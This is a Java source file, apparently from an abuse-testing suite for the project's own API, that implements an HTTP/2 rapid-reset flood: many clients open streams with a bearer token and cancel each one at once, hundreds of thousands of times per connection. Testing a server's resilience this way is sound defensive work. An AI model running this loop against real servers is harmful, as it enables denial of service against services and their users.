package io.glebe.api.abuse;

import io.glebe.api.http.RawHttp2;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;

/** HTTP/2 streams that are cancelled right after their request. */
record RapidResets(String path, String token, int clients) implements Abuse {
  private static final int WINDOW = 65_535;
  private static final int COUNTED = 100;
  private static final int MOST_STREAMS = 1 << 19;

  @Override
  public void start(AbuseConnections connections) {
    connections.repeat(clients, () -> resetStreams(connections));
  }

  private void resetStreams(AbuseConnections connections) throws IOException {
    Socket socket = connections.http();
    try {
      RawHttp2 http2 = new RawHttp2(socket, WINDOW);
      InputStream in = socket.getInputStream();
      for (int i = 1; i <= MOST_STREAMS; i++) {
        http2.reset(http2.get(path, ":authority", "localhost", "authorization", "Bearer " + token));
        in.skipNBytes(in.available());
        if (i % COUNTED == 0) {
          connections.count(COUNTED + " resets");
        }
      }
    } finally {
      connections.reset(socket);
    }
  }
}
